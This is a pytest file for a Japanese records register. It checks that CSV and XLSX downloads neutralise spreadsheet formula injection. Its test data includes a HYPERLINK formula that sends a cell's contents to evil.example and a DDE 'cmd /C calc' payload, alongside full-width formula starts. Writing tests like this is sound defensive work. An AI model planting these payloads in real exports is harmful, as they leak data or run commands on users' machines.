"""CSV/formula injection (CWE-1236, issue 13 §4): no download cell is ever a formula.

Public fields of a published ファイル簿 entry are given every formula start OWASP lists, their
full-width forms and spaces before them; the CSV and the XLSX are opened as a spreadsheet user
would (csv, openpyxl) and every cell must be text that no spreadsheet evaluates.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
from pathlib import Path

import pytest
from openpyxl import load_workbook

from daicho import export, public, repository, yamlio
from daicho.cellsafe import dangerous, neutralise, restore
from daicho.importer import reader
from tests.conftest import ROOT

TODAY = dt.date(2026, 11, 26)
PAYLOADS = {
    "名称": '=HYPERLINK("https://evil.example/?"&A1,"詳細")',
    "利用目的": "＝１＋１",            # full-width: Japanese Excel takes it as a formula too
    "記録範囲": "　@SUM(1+1)*cmd|' /C calc'!A0",  # ideographic space first
    "記録項目": ["+81-47-000-0000", "-2+3", "氏名"],
    "収集方法": "\t=1+1",
    "経常的提供先": ["－1", " ＠x"],
}


@pytest.fixture(scope="module")
def downloads(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    root = tmp_path_factory.mktemp("formulas")
    for name in ("records", "schemas"):
        shutil.copytree(ROOT / name, root / name)
    repo = repository.load(root)
    target = public.published_files(repo, TODAY)[0]
    data = dict(target.data, **PAYLOADS)
    (root / target.path).write_text(yamlio.dump(data), encoding="utf-8")
    repo = repository.load(root)
    assert not repo.errors, repo.errors[:3]
    return export.downloads(public.project(repo, TODAY), repo.types["file"].schema, False)


def test_the_rule_covers_owasp_starts_and_full_width_forms() -> None:
    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx", "＝1", "＋1", "－1", "＠x", "﹦1", " =1", "　=1"):
        assert dangerous(text) and neutralise(text) == "'" + text and restore(neutralise(text)) == text
    for text in ("氏名", "1-2", "a=b", "", "'quoted", "（＝）"):
        assert not dangerous(text) and neutralise(text) == text and restore(text) == text


def test_csv_cells_are_never_formulas(downloads: dict[str, bytes]) -> None:
    rows = list(csv.reader(io.StringIO(downloads["filebook.csv"].decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if dangerous(c)]
    assert "'" + PAYLOADS["名称"] in cells and "'＝１＋１" in cells
    assert "'+81-47-000-0000\n-2+3\n氏名" in cells


def test_xlsx_cells_are_text_never_formulas(downloads: dict[str, bytes], tmp_path: Path) -> None:
    path = tmp_path / "filebook.xlsx"
    path.write_bytes(downloads["filebook.xlsx"])
    ws = load_workbook(path).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and {c.data_type for c in cells} == {"s"}
    assert not [c.coordinate for c in cells if dangerous(str(c.value))]
    assert "'" + PAYLOADS["名称"] in {c.value for c in cells}


def test_reading_a_download_back_gives_the_record_values(downloads: dict[str, bytes], tmp_path: Path) -> None:
    for name in ("filebook.csv", "filebook.xlsx"):
        path = tmp_path / name
        path.write_bytes(downloads[name])
        cells = {c for sheet in reader.read(path) for row in sheet.rows for c in row}
        assert PAYLOADS["名称"] in cells and "＝１＋１" in cells, name
